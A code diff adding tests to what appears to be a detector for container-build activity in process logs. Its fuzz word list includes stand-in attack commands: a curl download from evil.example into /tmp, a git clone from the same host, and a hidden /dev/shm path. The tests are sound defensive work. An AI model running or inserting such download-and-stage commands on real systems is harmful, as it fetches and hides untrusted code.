@@ -12,8 +12,10 @@ from hypothesis import strategies as st
 
 from t1612core import Detector, EventError
 from t1612core.container.fetches import fetches
+from t1612core.facts import steps
 from t1612core.knowledge.programs import DOWNLOADERS
 from t1612core.observation import Observation
+from t1612core.text.remembered import LONGEST_GROUP, MOST, Met
 
 from .conftest import ROOT
 
@@ -152,3 +154,76 @@ def test_an_event_tells_its_hosts_clock() -> None:
     assert ("", None) == DETECTOR.clock_of({**row, "ActionType": "LogonSuccess"})
     with pytest.raises(EventError):
         DETECTOR.clock_of({"records": [row]})
+
+
+PROGRAMS = ("bash", "docker", "git", "curl", "python3", "make", "x")
+WORDS = (
+    *(
+        "-c",
+        "docker",
+        "run",
+        "build",
+        ".",
+        "alpine",
+        "ps",
+        "'curl -o /tmp/a http://evil.example/a'",
+    ),
+    *(
+        "clone",
+        "https://evil.example/a",
+        "/srv/a",
+        "-t",
+        "cp",
+        "a:/b",
+        "/dev/shm/.x",
+        "&&",
+        "commit",
+    ),
+)
+LINES = st.lists(st.sampled_from(WORDS), min_size=1, max_size=6).map(" ".join)
+
+
+@given(st.lists(st.tuples(st.sampled_from(PROGRAMS), LINES), min_size=1, max_size=4))
+def test_what_was_met_is_the_same_steps_as_at_first(events: list[tuple[str, str]]) -> None:
+    """Those that were no step are remembered by all that they say."""
+    for name, line in (*events, *events):
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr(Met, "__contains__", lambda met, texts: False)
+            expected = observe(f"{name} {line}", name)
+        assert expected == observe(f"{name} {line}", name)
+
+
+def test_what_was_no_step_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    read: list[object] = []
+    real = steps.steps
+    monkeypatch.setattr(
+        steps, "steps", lambda kind, given: (read.append(given), real(kind, given))[1]
+    )
+    detector = Detector()
+    event = {"FileName": "bash", "ProcessCommandLine": "bash -c true", "AccountName": "a"}
+    for changes, times in (
+        ({}, 1),
+        ({"ProcessId": 7}, 1),  # of each process its own, and no step hangs on it
+        ({"AccountName": "b"}, 2),
+        ({"InitiatingProcessCommandLine": "sh"}, 3),
+        ({}, 3),
+        ({"ProcessCommandLine": f"bash -c true {'x' * LONGEST_GROUP}"}, 4),
+        ({"ProcessCommandLine": f"bash -c true {'x' * LONGEST_GROUP}"}, 5),  # too long to be kept
+        ({"ProcessCommandLine": "bash -c 'docker run alpine'"}, 6),
+        ({"ProcessCommandLine": "bash -c 'docker run alpine'"}, 7),  # a step, each time
+    ):
+        detector.observe({**event, **changes}, kind="process")
+
+        assert times == len(read), changes
+
+
+def test_what_was_met_is_forgotten_in_its_turn() -> None:
+    met = Met()
+    for i in range(3 * MOST):
+        met.add((str(i), None))
+        assert ("0", None) in met  # it comes again and again
+
+    assert (str(3 * MOST - 1), None) in met
+    assert ("1", None) not in met
+    assert len(met._late) <= MOST
+    assert len(met._before) <= MOST
